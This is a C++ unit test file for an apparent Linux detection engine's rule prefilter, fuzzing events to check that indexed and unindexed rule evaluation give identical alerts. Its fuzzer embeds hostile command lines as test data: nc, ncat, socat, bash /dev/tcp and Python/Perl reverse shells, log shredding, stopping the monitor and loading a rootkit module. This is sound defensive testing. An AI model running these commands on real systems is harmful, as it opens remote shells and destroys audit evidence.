// The rule prefilter (docs/rules.md, "Performance"): the literal matcher against a naive search,
// the necessary literals derived from conditions, and a differential test — the same fuzzed
// events through an engine that tests every rule of the event's kind (RuleIndex::kNone), one
// with the key index only and one with the literal prefilter give identical alerts, for the
// default ruleset + the 200 Sigma rules of the benchmark + the Sigma fixtures, and for the rules
// written in the other detect tests.
#include <gtest/gtest.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>

#include <filesystem>
#include <fstream>
#include <random>
#include <regex>
#include <set>
#include <sstream>

#include "../../../bench/detect/bench_rules.hpp"
#include "detect/literal_matcher.hpp"
#include "detect_test_util.hpp"

namespace privwatch::detect {
namespace {

using namespace testing;
namespace fs = std::filesystem;

const std::string kSrc = PRIVWATCH_SOURCE_DIR;

std::string read_file(const std::string& path) {
  std::ifstream in(path);
  std::stringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

std::string lower(std::string s) {
  for (char& c : s) c = (c >= 'A' && c <= 'Z') ? static_cast<char>(c + 32) : c;
  return s;
}

// --- the literal matcher ---------------------------------------------------------------------

std::set<uint32_t> found(const LiteralMatcher& m, std::string_view text) {
  std::set<uint32_t> out;
  m.scan(text, [&](uint32_t id) { out.insert(id); });
  return out;
}

TEST(LiteralMatcher, OverlappingLiteralsAndSuffixesAreAllFound) {
  LiteralMatcher m;
  m.add("he", 1);
  m.add("she", 2);
  m.add("his", 3);
  m.add("hers", 4);
  m.add("e", 5);
  m.build();
  EXPECT_EQ(found(m, "ushers"), (std::set<uint32_t>{1, 2, 4, 5}));
  EXPECT_EQ(found(m, "this"), (std::set<uint32_t>{3}));
  EXPECT_EQ(found(m, "xyz"), (std::set<uint32_t>{}));
  EXPECT_EQ(found(m, ""), (std::set<uint32_t>{}));
}

TEST(LiteralMatcher, CaseInsensitiveAsciiAndBinarySafe) {
  LiteralMatcher m;
  m.add("/dev/TCP/", 7);  // literals are folded too
  m.add("socket", 8);
  m.add(std::string("a\0b", 3), 9);
  m.add("\xc3\xa9t\xc3\xa9", 10);  // UTF-8 bytes are matched as bytes
  m.build();
  EXPECT_EQ(found(m, "bash -c 'exec 3<>/DEV/tcp/1.2.3.4/80'"), (std::set<uint32_t>{7}));
  EXPECT_EQ(found(m, "import SoCkEt"), (std::set<uint32_t>{8}));
  EXPECT_EQ(found(m, std::string("xxA\0Byy", 7)), (std::set<uint32_t>{9}));
  EXPECT_EQ(found(m, "l'\xc3\xa9t\xc3\xa9"), (std::set<uint32_t>{10}));
  EXPECT_EQ(found(m, "l'\xc3\x89t\xc3\x89"), (std::set<uint32_t>{}));  // not ASCII: no folding
  LiteralMatcher empty;
  empty.build();
  EXPECT_TRUE(empty.empty());
  EXPECT_EQ(found(empty, "anything"), (std::set<uint32_t>{}));
}

TEST(LiteralMatcher, EqualsNaiveSearchOnRandomTexts) {
  std::mt19937 rng(7);
  const std::string alphabet = "abAB/.-_ \x01\xff";
  auto random_text = [&](size_t max) {
    std::string s(rng() % (max + 1), ' ');
    for (char& c : s) c = alphabet[rng() % alphabet.size()];
    return s;
  };
  for (int round = 0; round < 50; ++round) {
    LiteralMatcher m;
    std::vector<std::string> lits;
    for (uint32_t i = 0; i < 40; ++i) {
      std::string l = random_text(6);
      if (l.empty()) l = "a";
      lits.push_back(l);
      m.add(l, i);
    }
    m.build();
    for (int t = 0; t < 200; ++t) {
      const std::string text = random_text(60);
      std::set<uint32_t> want;
      for (uint32_t i = 0; i < lits.size(); ++i) {
        if (lower(text).find(lower(lits[i])) != std::string::npos) want.insert(i);
      }
      ASSERT_EQ(found(m, text), want) << "text '" << text << "' round " << round;
    }
  }
}

// --- necessary conditions --------------------------------------------------------------------

// The needs of the single rule of `yaml` for exec events, as "field:key" / "field~literal".
std::string needs_of(const std::string& cond, model::EventKind kind = model::EventKind::kExec) {
  auto set = rules_from("rules:\n  - name: r\n    severity: high\n    condition: " + cond + "\n");
  if (set.rules.size() != 1) return "<load error>";
  Needs needs;
  if (!set.rules[0]->condition->necessary(static_cast<size_t>(kind), true, needs)) return "none";
  std::string out;
  for (const auto& n : needs) {
    if (!out.empty()) out += " ";
    out += std::string(n.field->name) + (n.type == Need::Type::kKey ? ":" : "~") + n.value;
  }
  return out.empty() ? "never" : out;
}

TEST(Prefilter, NecessaryLiteralsFollowTheOperators) {
  EXPECT_EQ(needs_of("{process.name: [nc, NCat]}"), "process.name:nc process.name:ncat");
  EXPECT_EQ(needs_of("{process.executable: {endswith: [/usr/bin/Nc, /nc]}}"),
            "process.executable:nc process.executable:nc");
  // "nc" as a suffix could end "/usr/bin/mync": a literal, not a key.
  EXPECT_EQ(needs_of("{process.executable: {endswith: nc}}"), "process.executable~nc");
  EXPECT_EQ(needs_of("{process.command_line: {contains: [Socket, /dev/tcp/]}}"),
            "process.command_line~socket process.command_line~/dev/tcp/");
  // An element of process.args occurs in the command line.
  EXPECT_EQ(needs_of("{process.args: {startswith: --exec}}"), "process.command_line~--exec");
  EXPECT_EQ(needs_of("{process.parent.args: -c}"), "process.parent.command_line~-c");
  // Globs: the longest literal run; escapes are literal; classes end a run.
  EXPECT_EQ(needs_of("{file.path: {glob: \"*/.ssh/id_*\"}}", model::EventKind::kFile),
            "file.path~/.ssh/id_");
  EXPECT_EQ(needs_of("{file.path: {glob: \"*[ab]cd\\\\*efgh*\"}}", model::EventKind::kFile),
            "file.path~cd*efgh");
  EXPECT_EQ(needs_of("{file.path: {glob: [\"*.log\", \"*\"]}}", model::EventKind::kFile), "none");
  // No literal: regex, not, numbers, IPs.
  EXPECT_EQ(needs_of("{process.command_line: {regex: socket}}"), "none");
  EXPECT_EQ(needs_of("{not: {process.name: bash}}"), "none");
  EXPECT_EQ(needs_of("{user.id: 0}"), "none");
  // and: the most selective child; or: the union, only if every branch has needs.
  EXPECT_EQ(needs_of("{process.name: bash, process.command_line: {contains: abc}}"),
            "process.name:bash");
  EXPECT_EQ(needs_of("{any: [{process.name: socat}, {process.command_line: {contains: xyzzy}}]}"),
            "process.name:socat process.command_line~xyzzy");
  EXPECT_EQ(needs_of("{any: [{process.name: socat}, {user.id: 0}]}"), "none");
  // Branches that cannot be true for the event's kind do not count.
  EXPECT_EQ(needs_of("{any: [{event.action: exec, process.name: useradd}, "
                     "{event.action: open, user.id: 0}]}"),
            "process.name:useradd");
  EXPECT_EQ(needs_of("{any: [{event.action: exec, process.name: useradd}, "
                     "{event.action: open, user.id: 0}]}",
                     model::EventKind::kFile),
            "none");
}

TEST(Prefilter, TheBenchmarkRulesAreIndexed) {
  RuleSetBuilder b;
  ASSERT_TRUE(add_default_rules(b, nullptr));
  for (int i = 0; i < 200; ++i) ASSERT_TRUE(b.add_text(bench::sigma_rule(i), "bench.yml"));
  Engine full(std::move(b).finish(), no_limits());
  const auto info = full.index_info();
  // Every Sigma rule has a key or literals; what is left unguarded are default rules that test
  // flags, ids and regexes only.
  EXPECT_GE(info.by_key + info.by_literal, 200u);
  EXPECT_GE(info.by_literal, 100u);  // the wildcard and file rules
  EXPECT_LT(info.unguarded, 20u);
  EXPECT_GT(info.literals, 300u);
}

// Case-insensitive contains / glob read the field lower-cased once per event: the cached value
// must never leak into the next event (nor the next field).
TEST(Prefilter, LowerCasedFieldsAreComputedPerEvent) {
  for (const auto index : {RuleIndex::kNone, RuleIndex::kFull}) {  // kNone: no prefilter to hide
    EngineOptions o = no_limits();
    o.rule_index = index;
    Engine e(rules_from(R"(
rules:
  - name: cl
    severity: high
    condition: {process.command_line: {contains: EVIL, nocase: true}}
  - name: glob
    severity: high
    condition: {process.executable: {glob: "*/BIN/X*", nocase: true}}
  - name: parent
    severity: high
    condition: {process.parent.command_line: {contains: evil, nocase: true}}
)"),
             o);
    auto a = exec_event("/usr/bin/x1", {"x1", "--Evil"});
    auto b = exec_event("/usr/bin/y", {"y", "--good"});
    b.parent_args = {"sh", "-c", "eViL"};
    auto c = exec_event("/usr/sbin/x", {"x", "ok"});
    EXPECT_EQ(fire(e, {a}), (std::vector<std::string>{"cl", "glob"}));
    EXPECT_EQ(fire(e, {b}), (std::vector<std::string>{"parent"}));
    EXPECT_EQ(fire(e, {c}), (std::vector<std::string>{}));
    EXPECT_EQ(fire(e, {a, b, c, a}),
              (std::vector<std::string>{"cl", "glob", "parent", "cl", "glob"}));
  }
}

// --- differential test -----------------------------------------------------------------------

// Words of rule texts (values, list items, pieces of globs and regexes): the material events are
// made of, so that rules do match.
std::vector<std::string> tokens_of(const std::string& text) {
  std::vector<std::string> out;
  std::string cur;
  auto flush = [&] {
    while (!cur.empty() && (cur.back() == ':' || cur.back() == '.')) cur.pop_back();
    if (cur.size() >= 2 && cur.size() <= 48) out.push_back(cur);
    cur.clear();
  };
  for (const char c : text) {
    if (std::string_view(" \t\n\r[]{},'\"*?()|^$\\+").find(c) != std::string_view::npos) {
      flush();
    } else {
      cur.push_back(c);
    }
  }
  flush();
  std::sort(out.begin(), out.end());
  out.erase(std::unique(out.begin(), out.end()), out.end());
  return out;
}

class Fuzzer {
 public:
  Fuzzer(std::vector<std::string> tokens, uint32_t seed) : tokens_(std::move(tokens)), rng_(seed) {
    for (const auto& t : tokens_) {
      if (t[0] == '/') paths_.push_back(t);
    }
    for (const char* p : {"/etc/", "/tmp/", "/home/alice/", "/root/", "/var/log/", "/usr/bin/",
                          "/usr/local/bin/", "/dev/shm/", "/var/spool/cron/", "/opt/vendor3/"}) {
      paths_.push_back(p);
    }
  }

  std::vector<model::Event> events(size_t n) {
    std::vector<model::Event> out;
    for (size_t i = 0; i < n; ++i) out.push_back(event());
    return out;
  }

 private:
  uint32_t pick(uint32_t n) { return static_cast<uint32_t>(rng_() % n); }
  bool chance(uint32_t percent) { return pick(100) < percent; }
  const std::string& token() { return tokens_[pick(static_cast<uint32_t>(tokens_.size()))]; }

  // Case flips, stray bytes: what the case-insensitive matching must survive.
  std::string mutate(std::string s) {
    if (chance(25)) {
      for (char& c : s) {
        if (chance(50)) c = static_cast<char>(std::toupper(static_cast<unsigned char>(c)));
      }
    }
    if (chance(5) && !s.empty()) s[pick(static_cast<uint32_t>(s.size()))] = "\x00\xff\x7f"[pick(3)];
    return s;
  }
  std::string text(uint32_t max_parts) {
    std::string out;
    const uint32_t parts = 1 + pick(max_parts);
    for (uint32_t i = 0; i < parts; ++i) {
      if (i > 0 && chance(70)) out.push_back(" /=:-."[pick(6)]);
      if (chance(85)) {
        out += mutate(token());
      } else {
        for (uint32_t k = pick(6); k > 0; --k) out.push_back(static_cast<char>(33 + pick(94)));
      }
    }
    return out;
  }
  std::string path() {
    std::string p = paths_[pick(static_cast<uint32_t>(paths_.size()))];
    if (chance(60)) {
      if (!p.empty() && p.back() != '/') p.push_back('/');
      p += mutate(token());
    }
    if (chance(20)) p = "/home/alice/" + mutate(token());
    return p;
  }
  std::string exe() {
    static const std::vector<std::string> kDirs = {"/usr/bin/", "/bin/", "/usr/sbin/", "/tmp/",
                                                   "/opt/vendor7/bin/"};
    std::string name = token();
    if (const size_t slash = name.rfind('/'); slash != std::string::npos) {
      name = name.substr(slash + 1);
    }
    if (name.empty()) name = "x";
    if (chance(10)) return mutate(path());
    return kDirs[pick(static_cast<uint32_t>(kDirs.size()))] + (chance(10) ? mutate(name) : name);
  }
  std::vector<std::string> args(const std::string& exe_path, uint32_t max) {
    std::vector<std::string> a = {exe_path.substr(exe_path.rfind('/') + 1)};
    for (uint32_t i = pick(max + 1); i > 0; --i) a.push_back(chance(30) ? path() : text(3));
    return a;
  }

  model::Event event() {
    static const std::vector<std::pair<std::string, std::vector<std::string>>> kAttacks = {
        {"/usr/bin/nc", {"nc", "-e", "/bin/sh", "203.0.113.9", "4444"}},
        {"/usr/bin/ncat", {"ncat", "--exec", "/bin/bash", "203.0.113.9", "4444"}},
        {"/usr/bin/socat", {"socat", "TCP:203.0.113.9:4444", "EXEC:/bin/sh"}},
        {"/bin/bash", {"bash", "-c", "exec 3<>/dev/tcp/203.0.113.9/80"}},
        {"/usr/bin/python3",
         {"python3", "-c",
          "import socket,os,pty;s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0);"
          "pty.spawn(\"/bin/sh\")"}},
        {"/usr/bin/perl", {"perl", "-e", "use Socket;exec(\"/bin/sh -i\")"}},
        {"/usr/sbin/setcap", {"setcap", "cap_net_raw+ep", "/usr/bin/x"}},
        {"/usr/sbin/useradd", {"useradd", "bob"}},
        {"/usr/sbin/visudo", {"visudo"}},
        {"/bin/bash", {"bash", "-i"}},
        {"/bin/bash", {"bash", "-c", "history -c"}},
        {"/usr/bin/curl", {"curl", "-o", "/usr/local/bin/x", "http://x"}},
        {"/usr/bin/shred", {"shred", "/var/log/auth.log"}},
        {"/usr/bin/journalctl", {"journalctl", "--vacuum-time=1s"}},
        {"/usr/bin/systemctl", {"systemctl", "stop", "privwatch"}},
        {"/usr/sbin/insmod", {"insmod", "rootkit.ko"}},
        {"/usr/bin/tool4", {"tool4", "--payload4", "x"}},
        {"/usr/bin/dropper5", {"dropper5"}},
        {"/usr/bin/x", {"x", "curl9", "|sh9"}},
    };
    model::Event ev = base_event(model::EventKind::kExec, 100 + pick(40), chance(50) ? 0 : 1000);
    ev.proc.uid = chance(80) ? ev.proc.euid : (chance(50) ? 5 : 0);
    ev.proc.sessionid = chance(80) ? pick(6) : model::kUnsetId;
    ev.proc.loginuid = chance(70) ? 1000 : model::kUnsetId;
    ev.proc.tty_dev = chance(30) ? 0x8800 : 0;
    ev.ts_ns = ts_ += 1'000'000ull * (1 + pick(chance(5) ? 700'000 : 2000));
    ev.user_name = chance(90) ? ev.user_name : mutate(token());
    ev.parent_exe = chance(50) ? exe() : "/bin/bash";
    ev.parent_comm = ev.parent_exe.substr(ev.parent_exe.rfind('/') + 1).substr(0, 15);
    if (chance(60)) ev.parent_args = args(ev.parent_exe, 3);
    ev.exe = exe();
    ev.proc.comm = ev.exe.substr(ev.exe.rfind('/') + 1).substr(0, 15);
    ev.attr.escalated = chance(20);
    if (ev.attr.escalated) ev.attr.escalation = model::EscalationMethod::kSudo;
    if (chance(15)) ev.attr.service_account = "svc-" + token();
    if (chance(15)) ev.attr.roles = {chance(50) ? "observe-only" : "dba"};
    ev.flags = chance(70) ? model::kFlagMonitored : 0;
    const uint32_t k = pick(100);
    if (k < 35) {
      ev.kind = model::EventKind::kExec;
      model::ExecData x;
      if (chance(15)) {
        const auto& [e, a] = kAttacks[pick(static_cast<uint32_t>(kAttacks.size()))];
        x.exe_path = chance(10) ? mutate(e) : e;
        x.args = a;
        if (chance(30)) x.args.push_back(text(2));
      } else {
        x.exe_path = exe();
        x.args = args(x.exe_path, 5);
      }
      x.filename = x.exe_path;
      x.cwd = path();
      x.result = chance(95) ? 0 : -2;
      x.flags = chance(5) ? model::kExecMemfd : chance(5) ? model::kExecDeleted : 0;
      ev.exe = x.exe_path;
      ev.proc.comm = chance(90) ? x.exe_path.substr(x.exe_path.rfind('/') + 1).substr(0, 15)
                                : mutate(token()).substr(0, 15);
      ev.data = std::move(x);
    } else if (k < 70) {
      ev.kind = model::EventKind::kFile;
      model::FileData f;
      f.op = static_cast<model::FileOp>(1 + pick(10));
      f.path = path();
      if (f.op == model::FileOp::kRename || f.op == model::FileOp::kLink ||
          f.op == model::FileOp::kSymlink) {
        f.target_path = path();
      }
      static const uint32_t kFlags[] = {O_RDONLY, O_WRONLY | O_CREAT, O_RDWR, O_WRONLY | O_TRUNC,
                                        O_RDONLY | O_CLOEXEC};
      f.open_flags = kFlags[pick(5)];
      f.file_flags = chance(20) ? model::kFileCreated : 0;
      static const uint32_t kModes[] = {0644, 0755, 04755, 02711, 0600};
      f.mode = kModes[pick(5)];
      if (f.op == model::FileOp::kChown) f.uid = pick(2) * 1000;
      f.result = chance(90) ? 0 : -13;
      ev.data = std::move(f);
    } else if (k < 85) {
      ev.kind = model::EventKind::kNet;
      model::NetData n;
      n.op = static_cast<model::NetOp>(1 + pick(4));
      const uint32_t fam = pick(10);
      n.family = fam < 6 ? AF_INET : fam < 9 ? AF_INET6 : AF_UNIX;
      n.sock_type = chance(80) ? SOCK_STREAM : SOCK_DGRAM;
      static const uint16_t kPorts[] = {443, 4444, 22, 53, 8080, 20003, 30007, 20043, 1};
      n.remote_port = chance(50) ? kPorts[pick(9)] : static_cast<uint16_t>(20000 + pick(10300));
      n.local_port = static_cast<uint16_t>(chance(50) ? kPorts[pick(9)] : 40000 + pick(1000));
      static const char* kV4[] = {"10.1.2.3",    "192.168.1.5", "127.0.0.1",
                                  "203.0.113.9", "8.8.8.8",     "100.64.0.1"};
      static const char* kV6[] = {"::1", "fd00::5", "2001:db8::1", "::ffff:10.0.0.1",
                                  "::ffff:203.0.113.9"};
      if (n.family == AF_INET) {
        inet_pton(AF_INET, kV4[pick(6)], n.remote_addr.data());
        inet_pton(AF_INET, kV4[pick(6)], n.local_addr.data());
      } else if (n.family == AF_INET6) {
        inet_pton(AF_INET6, kV6[pick(5)], n.remote_addr.data());
        inet_pton(AF_INET6, kV6[pick(5)], n.local_addr.data());
      } else {
        n.unix_path = path();
      }
      n.result = chance(90) ? 0 : -111;
      ev.data = n;
    } else if (k < 89) {
      ev.kind = model::EventKind::kFork;
      ev.data = model::ForkData{100 + pick(40), 0};
    } else if (k < 92) {
      ev.kind = model::EventKind::kExit;
      ev.data = model::ExitData{pick(2) << 8};
    } else if (k < 94) {
      ev.kind = model::EventKind::kCred;
      static const uint32_t kSys[] = {SYS_setuid, SYS_setresuid, SYS_capset, SYS_setgid};
      ev.syscall = kSys[pick(4)];
      ev.data = model::CredData{};
    } else if (k < 96) {
      ev.kind = model::EventKind::kPtrace;
      static const int64_t kReq[] = {PTRACE_ATTACH, PTRACE_SEIZE, PTRACE_POKEDATA, PTRACE_PEEKDATA};
      ev.data = model::PtraceData{0, kReq[pick(4)], chance(50) ? 777u : 4000u};
    } else if (k < 97) {
      ev.kind = model::EventKind::kModule;
      model::ModuleData m;
      m.op = static_cast<model::ModuleOp>(1 + pick(3));
      m.name = chance(50) ? path() : token();
      ev.data = std::move(m);
    } else if (k < 98) {
      ev.kind = model::EventKind::kBpf;
      model::BpfData b;
      b.prog_name = token();
      ev.data = std::move(b);
    } else if (k < 99) {
      ev.kind = model::EventKind::kMount;
      model::MountData m;
      m.target = path();
      m.fstype = token();
      ev.data = std::move(m);
    } else {
      ev.kind = model::EventKind::kSignal;
      static const uint32_t kSig[] = {9, 19, 15, 0, 18};
      ev.data = model::SignalData{0, chance(50) ? 777u : 4000u, kSig[pick(5)]};
    }
    return ev;
  }

  std::vector<std::string> tokens_;
  std::vector<std::string> paths_;
  std::mt19937_64 rng_;
  uint64_t ts_ = 1'000'000'000'000ull;
};

// Everything an alert says except its id (random per engine).
std::string describe(const model::Alert& a) {
  std::string ids;
  for (const auto& id : a.event_ids) ids += id + ",";
  return a.rule + "|" + a.title + "|" + a.explanation + "|" + ids + "|" + std::to_string(a.count) +
         "|" + std::to_string(a.wall_ns) + "|" + a.user + "|" + a.human + "|" + a.host + "|" +
         a.session_id + "|" + a.details_json;
}

struct RunResult {
  std::vector<std::string> alerts;
  EngineStats stats;
};

RunResult run(const std::vector<std::string>& texts, bool with_default, bool with_bench,
              const std::vector<model::Event>& events, RuleIndex index, EngineOptions opts) {
  RuleSetBuilder b;
  if (with_default) {
    EXPECT_TRUE(add_default_rules(b, nullptr));
  }
  if (with_bench) {
    for (int i = 0; i < 200; ++i) EXPECT_TRUE(b.add_text(bench::sigma_rule(i), "bench.yml"));
    EXPECT_TRUE(b.add_path(kSrc + "/tests/unit/detect/fixtures/sigma"));
  }
  for (size_t i = 0; i < texts.size(); ++i) {
    EXPECT_TRUE(b.add_text(texts[i], "t" + std::to_string(i) + ".yaml"));
  }
  opts.rule_index = index;
  Engine e(std::move(b).finish(), opts);
  RunResult r;
  std::vector<model::Alert> out;
  for (const auto& ev : events) {
    out.clear();
    e.evaluate(ev, out);
    for (const auto& a : out) r.alerts.push_back(describe(a));
  }
  r.stats = e.stats();
  return r;
}

// The rules written in the other detect tests: the conditions given to matches("...") and the
// raw-string rule files, each loadable on its own.
std::vector<std::string> rules_of_tests() {
  std::vector<std::string> out;
  std::vector<std::string> conditions;
  for (const char* file :
       {"/tests/unit/detect/rule_language_test.cpp", "/tests/unit/detect/engine_test.cpp",
        "/tests/unit/detect/default_rules_test.cpp", "/tests/integration/rules_reload_test.cpp"}) {
    const std::string src = read_file(kSrc + file);
    EXPECT_FALSE(src.empty()) << file;
    const std::regex cond(R"re(matches\("((?:[^"\\]|\\.)*)")re");
    for (std::sregex_iterator it(src.begin(), src.end(), cond), end; it != end; ++it) {
      std::string c;
      const std::string raw = (*it)[1];
      for (size_t i = 0; i < raw.size(); ++i) c.push_back(raw[i] == '\\' ? raw[++i] : raw[i]);
      conditions.push_back(c);
    }
    for (size_t at = src.find("R\"("); at != std::string::npos; at = src.find("R\"(", at + 1)) {
      const size_t end = src.find(")\"", at + 3);
      if (end == std::string::npos) break;
      std::string text = src.substr(at + 3, end - at - 3);
      if (text.find("rules:") != std::string::npos && load_error(text).empty()) {
        out.push_back(std::move(text));
      }
    }
  }
  std::string yaml = "rules:\n";
  size_t n = 0;
  for (const auto& c : conditions) {
    const std::string rule =
        "  - name: cond" + std::to_string(n) + "\n    severity: high\n    condition: " + c + "\n";
    if (!load_error("rules:\n" + rule).empty()) continue;
    yaml += rule;
    ++n;
  }
  EXPECT_GE(n, 30u) << "the condition extraction found too few rules";
  out.push_back(yaml);
  return out;
}

std::vector<std::string> all_rule_texts_for_tokens(const std::vector<std::string>& extra) {
  std::vector<std::string> texts = extra;
  for (const auto& entry : fs::directory_iterator(kSrc + "/config/rules")) {
    texts.push_back(read_file(entry.path()));
  }
  for (const auto& entry : fs::directory_iterator(kSrc + "/tests/unit/detect/fixtures/sigma")) {
    texts.push_back(read_file(entry.path()));
  }
  for (int i = 0; i < 200; ++i) texts.push_back(bench::sigma_rule(i));
  return texts;
}

void expect_same(const RunResult& want, const RunResult& got, const std::string& what) {
  ASSERT_EQ(want.alerts.size(), got.alerts.size()) << what;
  for (size_t i = 0; i < want.alerts.size(); ++i) {
    ASSERT_EQ(want.alerts[i], got.alerts[i]) << what << ", alert " << i;
  }
  EXPECT_EQ(want.stats.matches, got.stats.matches) << what;
  EXPECT_EQ(want.stats.excepted, got.stats.excepted) << what;
  EXPECT_EQ(want.stats.sequence_started, got.stats.sequence_started) << what;
  EXPECT_EQ(want.stats.sequence_completed, got.stats.sequence_completed) << what;
}

TEST(PrefilterDifferential, DefaultAndSigmaRulesAlertTheSameWithAndWithoutTheIndex) {
  const auto tokens = tokens_of([] {
    std::string all;
    for (const auto& t : all_rule_texts_for_tokens({})) all += t + "\n";
    return all;
  }());
  ASSERT_GT(tokens.size(), 500u);
  Fuzzer fuzz(tokens, 20261203);
  const auto events = fuzz.events(40000);
  for (const bool limits : {false, true}) {
    EngineOptions o = limits ? EngineOptions{} : no_limits();
    o.self_pid = 777;
    o.host = "testhost";
    const RunResult ref = run({}, true, true, events, RuleIndex::kNone, o);
    const RunResult keys = run({}, true, true, events, RuleIndex::kKeys, o);
    const RunResult full = run({}, true, true, events, RuleIndex::kFull, o);
    expect_same(ref, keys, limits ? "keys, with limits" : "keys");
    expect_same(ref, full, limits ? "prefilter, with limits" : "prefilter");
    // Not vacuous: many rules, default and Sigma, fired; the index did skip rules.
    std::set<std::string> fired;
    for (const auto& a : ref.alerts) fired.insert(a.substr(0, a.find('|')));
    size_t sigma = 0;
    for (const auto& f : fired) sigma += f.rfind("sigma.", 0) == 0 ? 1 : 0;
    EXPECT_GE(fired.size() - sigma, 20u) << "default rules that fired";
    EXPECT_GE(sigma, 60u) << "Sigma rules that fired";
    EXPECT_LT(full.stats.rule_evaluations * 3, ref.stats.rule_evaluations);
    EXPECT_LT(full.stats.rule_evaluations, keys.stats.rule_evaluations);
  }
}

TEST(PrefilterDifferential, RulesOfTheOtherTestsAlertTheSame) {
  const auto texts = rules_of_tests();
  ASSERT_GE(texts.size(), 4u);
  const auto tokens = tokens_of([&] {
    std::string all;
    for (const auto& t : all_rule_texts_for_tokens(texts)) all += t + "\n";
    return all;
  }());
  size_t alerts = 0;
  for (size_t i = 0; i < texts.size(); ++i) {
    Fuzzer fuzz(tokens, static_cast<uint32_t>(1000 + i));
    const auto events = fuzz.events(i + 1 == texts.size() ? 30000 : 8000);
    EngineOptions o = no_limits();
    const RunResult ref = run({texts[i]}, false, false, events, RuleIndex::kNone, o);
    const RunResult full = run({texts[i]}, false, false, events, RuleIndex::kFull, o);
    expect_same(ref, full, "rule text " + std::to_string(i) + ":\n" + texts[i]);
    alerts += ref.alerts.size();
  }
  EXPECT_GT(alerts, 1000u);
}

}  // namespace
}  // namespace privwatch::detect
